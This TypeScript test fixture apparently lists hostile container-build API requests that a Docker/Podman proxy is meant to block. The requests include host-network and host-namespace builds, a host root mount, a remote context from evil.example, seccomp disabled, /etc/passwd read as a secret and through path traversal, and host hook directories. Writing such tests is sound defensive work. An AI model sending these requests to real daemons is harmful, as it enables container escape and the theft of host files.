/** Builds that reach beyond what is built; what is in folders and Containerfiles has tests of its own. */
import type { Asked, Attacks } from "./asked.ts";

const build = (query: string): Asked => ({
  method: "POST",
  path: `/v1.41/build?dockerfile=Containerfile&t=localhost%2Fhublet-test%2Fx%3A1&buildargs=%7B%7D&labels=%7B%7D&nocache=false&rm=true&forcerm=true${query}`,
  text: "",
  headers: { "content-type": "application/x-tar" },
});
const namespaces = (process: number | "host", network: number | "host" = process) => {
  const of = (id: number | "host", name: string) =>
    id === "host" ? { Host: true, Path: "" } : { Host: false, Path: `/proc/${id}/ns/${name}` };
  const both = [
    { Name: "network", ...of(network, "net") },
    { Name: "pid", ...of(process, "pid") },
  ];
  return `&nsoptions=${encodeURIComponent(JSON.stringify(both))}`;
};

export const buildAttacks: Attacks = {
  "a build with the name of the program": () => ({
    ...build(""),
    path: build("").path.replace("hublet-test%2Fx", "hublet-proxy"),
  }),
  "a build in the host's network": () => build("&networkmode=host"),
  "a build with a folder of the host": () => build("&volume=%2F%3A%2Fhost"),
  "a build from an address": () => build("&remote=http%3A%2F%2Fevil.example%2Fx.tar"),
  "a build without seccomp": () => build("&seccomp=unconfined"),
  "a build among the host's processes": () => build(namespaces(1)),
  "a build among the host's processes, said so": () => build(namespaces("host", 1)),
  "a build in the host's network, by its namespaces": () => build(namespaces(1, "host")),
  "a build in the network of one and among the processes of another": () => build(namespaces(1, 2)),
  "a build without a helper": () => build(""),
  "a build with another context (additionalbuildcontexts)": () => build("&additionalbuildcontexts=x%3Durl%3A%2Fetc"),
  "a build with a secret of the host": () => build("&secrets=%5B%22id%3Dx%2Csrc%3D%2Fetc%2Fpasswd%22%5D"),
  "a build whose content goes to a folder of the host": () => build("&outputs=type%3Dlocal%2Cdest%3D%2Ftmp%2Fx"),
  "a build in another isolation": () => build("&isolation=chroot"),
  "a build with devices": () => build("&devices=%5B%22%2Fdev%2Ffuse%22%5D"),
  "a build with a hook of the host": () => build("&ocihooksdir=%2Ftmp"),
  "a build by BuildKit, which has sessions": () => build("&version=2"),
  "a packed folder": () => ({
    ...build(""),
    headers: { "content-type": "application/x-tar", "content-encoding": "gzip" },
  }),
  "a session for a builder": () => ({
    method: "POST",
    path: "/v1.41/session",
    headers: { connection: "Upgrade", upgrade: "h2c" },
  }),
  "a build whose file lies outside": () => ({
    ...build(""),
    path: build("").path.replace("=Containerfile", "=..%2F..%2Fetc%2Fpasswd"),
  }),
  "a build whose files lie outside, in Podman's list": () => ({
    ...build(""),
    path: build("").path.replace("=Containerfile", `=${encodeURIComponent('["\\u002e\\u002e/secret"]')}`),
  }),
  "a build whose file takes in others by the preprocessor": () => ({
    ...build(""),
    path: build("").path.replace("=Containerfile", "=Containerfile.in"),
  }),
};
